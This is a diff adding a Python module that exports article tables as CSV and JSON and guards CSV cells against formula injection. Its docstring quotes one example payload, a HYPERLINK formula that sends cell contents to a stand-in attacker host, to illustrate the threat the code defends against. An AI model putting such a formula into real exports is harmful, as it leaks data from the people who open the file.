@@ -1,0 +1,69 @@
+"""Tables going out to spreadsheets and scripts: CSV cells that cannot run, article exports.
+
+A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
+spreadsheets skip before reading a formula) is run as a formula when the file is opened: a feed
+title such as ``=HYPERLINK("https://evil.example/?"&A1, "Cliquez")`` would leak or mislead
+(OWASP "CSV injection"). :func:`safe_cell` quotes such cells with a leading apostrophe, which
+spreadsheets show as text; every CSV veille writes goes through it.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Sequence
+from datetime import datetime
+from typing import Any
+
+FORMULA_STARTS = frozenset("=+-@\t\r")
+
+
+def safe_cell(value: str) -> str:
+    """``value`` as a cell a spreadsheet shows as text, never runs (see the module docstring)."""
+    first = value.lstrip(" ")[:1]
+    return "'" + value if first in FORMULA_STARTS else value
+
+
+def articles_csv(rows: Sequence[dict[str, Any]], columns: Sequence[str]) -> str:
+    """Rows as CSV (RFC 4180, CRLF): lists joined with ``;``, dates ISO 8601 UTC, every text
+    cell through :func:`safe_cell`."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow(columns)
+    for row in rows:
+        writer.writerow([_csv_value(row[c]) for c in columns])
+    return buffer.getvalue()
+
+
+def articles_json(rows: Sequence[dict[str, Any]], columns: Sequence[str]) -> str:
+    """Rows as a JSON array of objects (dates ISO 8601 UTC)."""
+    data = [{c: _json_value(row[c]) for c in columns} for row in rows]
+    return json.dumps(data, ensure_ascii=False, indent=2) + "\n"
+
+
+def _csv_value(value: Any) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, list | tuple):
+        return safe_cell(";".join(str(v) for v in value))
+    if isinstance(value, datetime):
+        return _iso(value)
+    if isinstance(value, float):
+        return f"{value:.4f}"
+    return safe_cell(str(value))
+
+
+def _json_value(value: Any) -> Any:
+    if isinstance(value, datetime):
+        return _iso(value)
+    if isinstance(value, tuple):
+        return list(value)
+    return value
+
+
+def _iso(value: datetime) -> str:
+    """Stored datetimes are naive UTC (see veille.store)."""
+    return value.replace(microsecond=0).isoformat() + ("Z" if value.tzinfo is None else "")
